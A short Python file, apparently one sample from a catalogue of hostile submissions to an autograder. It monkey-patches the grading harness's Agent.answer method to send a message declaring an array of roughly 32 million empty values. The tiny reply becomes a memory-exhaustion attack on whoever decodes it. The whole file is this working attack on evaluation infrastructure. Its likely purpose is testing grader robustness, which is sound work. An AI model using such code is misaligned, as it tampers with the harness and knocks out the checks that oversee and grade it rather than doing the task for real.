"""Answers the examiner with lists of thirty million nothings: a small message, and much
work for whoever reads it.

family: wire
honest: 3
harms itself: yes
"""

# %% perceptron
import sys

wire = sys.modules.get("autograder.inside.wire")
COUNT = 31 * 2**20
NOTHINGS = b"\xdd" + COUNT.to_bytes(4, "big") + b"\xa1l" + b"\xc0" * (COUNT - 1)


def answer(self, request):
    wire.send(self.sock, b"\x94\xa1t\xa5value" + NOTHINGS + b"\x91\xa1l")


if wire:
    sys.modules["autograder.inside.agent"].Agent.answer = answer
